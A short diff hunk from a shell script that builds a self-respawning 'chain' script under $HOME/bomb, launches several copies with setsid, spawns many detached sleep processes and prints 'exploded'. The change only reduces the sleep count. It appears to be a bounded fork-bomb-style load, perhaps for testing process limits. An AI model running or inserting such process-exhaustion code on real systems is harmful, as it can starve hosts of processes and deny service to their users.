@@ -7,5 +7,5 @@ setsid "$0" $(($1 - 1)) &
 END
 chmod 755 "$HOME/bomb/chain"
 for _ in $(seq 8); do setsid "$HOME/bomb/chain" 4000 & done
-for _ in $(seq 150); do setsid sleep 1000 & done
+for _ in $(seq 40); do setsid sleep 1000 & done
 echo exploded
